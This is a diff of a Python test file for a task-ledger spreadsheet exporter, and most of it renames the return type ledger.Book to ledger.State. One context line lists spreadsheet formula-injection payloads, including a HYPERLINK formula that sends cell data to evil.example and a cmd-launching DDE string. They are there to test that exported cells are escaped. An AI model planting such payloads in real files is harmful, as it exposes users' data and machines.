@@ -43,7 +43,7 @@ LIGHT = COLUMNS.index("亮灯") + 1
 FIRST_TASK_ROW = 3
 
 
-def _book(*events: TaskEvent, start: datetime = CREATED) -> ledger.Book:
+def _book(*events: TaskEvent, start: datetime = CREATED) -> ledger.State:
     """The ledger's book after ``events``, one day apart from ``start``."""
     book = None
     for n, event in enumerate(events):
@@ -63,7 +63,7 @@ def _created(task_id: str, deadline: date, **fields: Any) -> TaskCreated:
                        **fields)  # fmt: skip
 
 
-def _working(task_id: str, deadline: date, *more: TaskEvent, **fields: Any) -> ledger.Book:
+def _working(task_id: str, deadline: date, *more: TaskEvent, **fields: Any) -> ledger.State:
     assigned = TaskAssigned(task_id=task_id, actor="office")
     signed = TaskSigned(task_id=task_id, actor="edu")
     return _book(_created(task_id, deadline, **fields), assigned, signed, *more)
@@ -192,7 +192,7 @@ DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+cmd|' /C cal
 """Text starting with each character OWASP lists: ``=``, ``+``, ``-``, ``@``, tab, CR."""
 
 
-def _sheet_of(book: ledger.Book) -> Any:
+def _sheet_of(book: ledger.State) -> Any:
     return load_workbook(BytesIO(workbook([book], NOW, RULES, ZONE, NAMES))).active
 
 
